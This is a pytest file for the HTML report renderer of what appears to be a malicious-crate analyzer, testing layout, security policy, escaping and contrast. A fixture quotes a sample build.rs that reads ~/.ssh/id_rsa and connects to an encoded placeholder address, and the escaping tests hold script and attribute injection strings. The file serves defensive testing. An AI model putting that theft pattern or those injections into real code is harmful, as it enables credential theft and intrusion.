from __future__ import annotations

import base64
import hashlib
import re
import time
from collections.abc import Callable
from dataclasses import replace

import pytest

from analyzer.errors import InternalError
from analyzer.model import (
    Clause,
    ClauseKind,
    Decision,
    Fact,
    FactKind,
    Finding,
    Hop,
    Outcome,
    Report,
    Severity,
    Span,
    Verdict,
)
from analyzer.report.html import render
from analyzer.report.html.attack import techniques
from analyzer.report.html.findings import EVIDENCE_SHOWN
from analyzer.report.html.markup import element, style_sheet, text
from analyzer.report.html.page import policy, style
from analyzer.report.html.sections import FACTS_SHOWN, GAPS_SHOWN, INDICATORS_SHOWN
from analyzer.rules.ruleset import load_ruleset

Compare = Callable[[str, str], None]
WAY = (
    Hop(Span("build.rs", 41), 'let key = std::fs::read(home.join(".ssh/id_rsa"))?;'),
    Hop(Span("src/pack.rs", 7), "pub fn pack(key: &[u8]) -> Vec<u8> {"),
    Hop(Span("build.rs", 44), 'TcpStream::connect(decode("MTk4LjUxLjEwMC43OjQ0Mw=="))?;'),
)


def plain(page: str) -> str:
    """A page without what is the same on all of them."""
    rest = page.replace(style(), "/* style.css */")
    return re.sub(r"sha256-[^']+", "sha256-DIGEST", rest).replace("><", ">\n<")


def with_evidence(report: Report, *lines: int) -> Report:
    """The report with one finding that cites these lines of `build.rs`."""
    finding = report.findings[1]
    cited = tuple(
        replace(finding.evidence[0], where=Span("build.rs", one), snippet=f"line {one}")
        for one in lines
    )
    return replace(report, findings=(replace(finding, evidence=cited),))


# The whole page ----------------------------------------------------------------------------------


def test_the_page_is_golden(compare: Compare, blocked: Report) -> None:
    theft = replace(blocked.findings[1], path=WAY)
    report = replace(blocked, findings=(blocked.findings[0], theft))
    compare("html/block.html", plain(render((report,))))


def test_several_crates_are_golden(compare: Compare, blocked: Report, clear: Report) -> None:
    compare("html/several.html", plain(render((clear, blocked))))


def test_the_policy_allows_the_style_sheet_and_nothing_else(blocked: Report) -> None:
    page = render((blocked,))
    (sheet,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(sheet.encode()).digest()).decode()
    assert policy() == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert f'http-equiv="Content-Security-Policy" content="{policy()}"' in page
    assert page.index("Content-Security-Policy") < page.index("<title>") < page.index("<style>")


def test_the_style_sheet_asks_for_nothing_from_elsewhere() -> None:
    assert not re.search(r"url\(|@import|@font-face|expression|<", style())


def test_every_anchor_leads_somewhere_and_no_id_is_given_twice(
    blocked: Report, clear: Report
) -> None:
    for page in (render((blocked,)), render((blocked, clear, blocked), is_full=True)):
        ids = re.findall(r' id="([^"]*)"', page)
        assert len(ids) == len(set(ids))
        assert set(re.findall(r' href="#([^"]*)"', page)) <= set(ids)
        assert set(re.findall(r' aria-labelledby="([^"]*)"', page)) <= set(ids)


# What is said ------------------------------------------------------------------------------------


def test_the_verdict_the_reason_and_the_next_step_come_first(blocked: Report) -> None:
    page = render((blocked,))
    order = [
        blocked.verdict,
        "x@1.2.3",
        blocked.summary,
        "Do not build this crate",
        "Findings</h2>",
    ]
    places = [page.index(f">{one}") for one in order]
    assert places == sorted(places)


def test_the_worst_finding_comes_first_and_the_minor_ones_are_folded(blocked: Report) -> None:
    odd, theft = blocked.findings
    low = replace(odd, severity=Severity.LOW, title="of little weight")
    page = render((replace(blocked, findings=(low, theft)),))
    assert re.findall(r'<details( open)? class="finding"', page) == [" open", ""]
    assert page.index("secret file") < page.index("Of little weight")


def test_a_way_is_drawn_from_its_first_to_its_last_hop(blocked: Report) -> None:
    theft = replace(blocked.findings[1], path=WAY)
    page = render((replace(blocked, findings=(theft,)),))
    (way,) = re.findall(r'<ol class="way">(.*?)</ol>', page, re.DOTALL)
    assert re.findall(r'class="place">([^<]*)<', way) == [
        "build.rs:41",
        "src/pack.rs:7",
        "build.rs:44",
    ]
    assert re.findall(r"<li(?: class=\"(\w+)\")?>", way) == ["source", "", "sink"]


def test_no_way_is_drawn_where_no_value_was_followed(blocked: Report) -> None:
    assert 'class="way"' not in render((blocked,))


def test_evidence_has_a_number_an_anchor_and_its_marked_line(blocked: Report) -> None:
    page = render((blocked,))
    assert 'id="f1-e2"' in page
    (line,) = re.findall(r'<span class="line hit">(?:(?!</mark>).)*#f1-e2.*?</mark>', page)
    assert ">44<" in line
    assert "TcpStream::connect(decode(&quot;" in line


def test_lines_around_evidence_are_shown_where_the_report_holds_them(blocked: Report) -> None:
    near = Fact(FactKind.ENV_READ, "HOME", Span("build.rs", 39), snippet="let home = one();")
    far = Fact(FactKind.ENV_READ, "HOME", Span("build.rs", 30), snippet="let far = two();")
    other = Fact(FactKind.ENV_READ, "HOME", Span("src/lib.rs", 42), snippet="let other = three();")
    page = render((replace(blocked, facts=(near, far, other)),))
    (code,) = re.findall(r"<pre[^>]*>.*?</pre>", page)
    assert re.findall(r'class="number">(\d+)<', code) == ["39", "41", "44"]
    assert "let home = one();" in code
    assert code.count('class="cut"') == 2


def test_evidence_that_stands_close_together_shares_one_view(blocked: Report) -> None:
    assert render((with_evidence(blocked, 10, 14, 15),)).count('class="code"') == 1
    assert render((with_evidence(blocked, 10, 90),)).count('class="code"') == 2


def test_the_capability_table_has_a_column_for_each_phase(blocked: Report) -> None:
    page = render((blocked,))
    (table,) = re.findall(r'aria-labelledby="capabilities-caption".*?</table>', page)
    assert re.findall(r'scope="col">(.*?)</th>', table) == [
        "It can",
        '<span class="build">build-script</span>',
        *("Places", "First at", "For example"),
    ]


def test_attack_techniques_are_named(blocked: Report) -> None:
    page = render((blocked,))
    assert "Exfiltration Over C2 Channel" in page
    assert "Private Keys" in page


def test_a_technique_without_a_name_is_still_shown(blocked: Report) -> None:
    finding = replace(blocked.findings[1], attack=("T9999",))
    page = render((replace(blocked, findings=(finding,)),))
    assert "T9999" in page
    assert "not listed" in page


def test_every_technique_that_a_rule_cites_has_a_name() -> None:
    rules = load_ruleset().rules
    cited = {one for rule in rules for one in rule.attack}
    assert cited <= set(techniques()), "signatures/attack.toml names every cited technique"


def test_gaps_that_block_come_first_and_say_what_helps(blocked: Report) -> None:
    page = render((blocked,))
    assert page.index("an identifier was lost") < page.index("a macro that cannot be read")
    assert "What helps: read this file by hand" in page


def test_what_is_left_out_is_counted(blocked: Report) -> None:
    finding = blocked.findings[1]
    many = replace(
        blocked,
        findings=(replace(finding, evidence=finding.evidence[:1] * (EVIDENCE_SHOWN + 3)),),
        facts=blocked.facts * (FACTS_SHOWN + 4),
        gaps=blocked.gaps * GAPS_SHOWN,
        indicators=blocked.indicators * (INDICATORS_SHOWN + 6),
    )
    page = render((many,))
    for count, what in ((3, "places"), (4, "facts"), (GAPS_SHOWN, "gaps"), (6, "indicators")):
        assert f"{count} more {what} are not on this page" in page
    assert f"The first {FACTS_SHOWN:,} facts" in page


def test_a_crate_that_is_clear_stands_in_the_table_only(blocked: Report, clear: Report) -> None:
    assert 'id="c1-top"' not in render((clear, blocked))
    assert 'id="c1-top"' in render((clear, blocked), is_full=True)


@pytest.mark.parametrize("verdict", Verdict)
def test_the_verdict_is_a_word_and_not_a_color_alone(blocked: Report, verdict: Verdict) -> None:
    assert f'<p class="verdict">{verdict}</p>' in render((replace(blocked, verdict=verdict),))


def test_the_score_of_an_incomplete_crate_speaks_of_what_was_read(blocked: Report) -> None:
    unread = replace(blocked, verdict=Verdict.INCOMPLETE)
    assert "Risk, of what was read<" in render((unread,))
    assert "of what was read" not in render((blocked,))


def test_a_decision_stands_beside_the_verdict_with_its_policy_and_clauses(
    blocked: Report, clear: Report
) -> None:
    clauses = (Clause(ClauseKind.AGE, Outcome.QUARANTINE, "published 2 days ago"),)
    held = Decision(Outcome.QUARANTINE, clauses, policy="policy.toml", digest="ab" * 32)
    page = render((replace(clear, decision=held),))
    assert f'class="chip review">HELD</span> by policy.toml (sha256 {"ab" * 8})' in page
    assert "age: published 2 days ago" in page
    assert page.index("HELD") < page.index("Capabilities</h2>")
    assert "HELD" not in render((clear,))
    many = render((blocked, replace(clear, decision=held)))
    assert 'id="c2-top"' in many  # CLEAR, but the policy holds it


# Escaping ----------------------------------------------------------------------------------------


def test_markup_of_a_crate_is_text(blocked: Report) -> None:
    hostile = "</title></style><script>a</script>&lt;\u202e\x00"
    shown = "&lt;/title&gt;&lt;/style&gt;&lt;script&gt;a&lt;/script&gt;&amp;lt;\\u{202e}\\u{0}"
    assert text(hostile).html == shown
    crate = replace(blocked.crate, name=hostile)
    page = render((replace(blocked, crate=crate),))
    assert page.count("<script") == 0
    assert page.count(shown) == 3


@pytest.mark.parametrize(
    "attributes",
    [
        {"href": "https://example.invalid/"},
        {"href": "javascript:a"},
        {"href": "#a b"},
        {"onclick": "a"},
        {"style": "color: red"},
        {"src": "a"},
        {"class_": 'a" onclick="b'},
        {"id": "a<b"},
        {"id": "\u202e"},
    ],
)
def test_an_attribute_that_is_none_of_ours_is_refused(attributes: dict[str, str]) -> None:
    with pytest.raises(InternalError):
        element("p", "text", **attributes)


def test_a_style_sheet_cannot_end_its_element() -> None:
    with pytest.raises(InternalError):
        style_sheet("p { } </style>")


# Size and time -----------------------------------------------------------------------------------


def test_four_thousand_facts_take_less_than_a_second(blocked: Report) -> None:
    facts = tuple(
        Fact(FactKind.MENTION, f"subject {n} é" * 8, Span(f"src/{n % 90}.rs", n), snippet="x" * 90)
        for n in range(4000)
    )
    finding = blocked.findings[1]
    findings = tuple(_finding(finding, number) for number in range(100))
    begun = time.process_time()
    page = render((replace(blocked, facts=facts, findings=findings),))
    assert time.process_time() - begun < 1
    assert len(page) < 1_500_000


def _finding(finding: Finding, number: int) -> Finding:
    where = Span(f"src/{number % 90}.rs", number)
    return replace(finding, evidence=(replace(finding.evidence[0], where=where),) * 20)


# Contrast ----------------------------------------------------------------------------------------

PALETTES = re.findall(r":root \{(.*?)\}", style(), re.DOTALL)
ON = {
    "text": ("page", "card", "code"),
    "quiet": ("page", "card", "code"),
    "link": ("page", "card"),
    "number": ("code",),
    "hit-text": ("hit",),
    "on": ("block", "review", "incomplete", "clear"),
    **{
        f"{one}-text": (one,)
        for one in ("critical", "high", "medium", "low", "info", "good", "odd")
    },
}


def luminance(color: str) -> float:
    """WCAG 2.2, relative luminance of `#rrggbb`."""
    parts = [int(color[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = (
        one / 12.92 if one <= 0.04045 else ((one + 0.055) / 1.055) ** 2.4 for one in parts
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    """WCAG 2.2, contrast ratio of two colors."""
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def test_contrast_is_computed_as_the_standard_has_it() -> None:
    assert contrast("#000000", "#ffffff") == pytest.approx(21)
    assert contrast("#777777", "#ffffff") == pytest.approx(4.48, abs=0.01)


@pytest.mark.parametrize("number", [0, 1, 2], ids=["light", "dark", "print"])
def test_every_text_can_be_read_on_its_ground(number: int) -> None:
    assert len(PALETTES) == 3
    base = dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6});", PALETTES[0]))
    colors = base | dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6});", PALETTES[number]))
    low = {
        f"{front} on {back}": round(contrast(colors[front], colors[back]), 2)
        for front, backs in ON.items()
        for back in backs
        if contrast(colors[front], colors[back]) < 4.5
    }
    assert low == {}
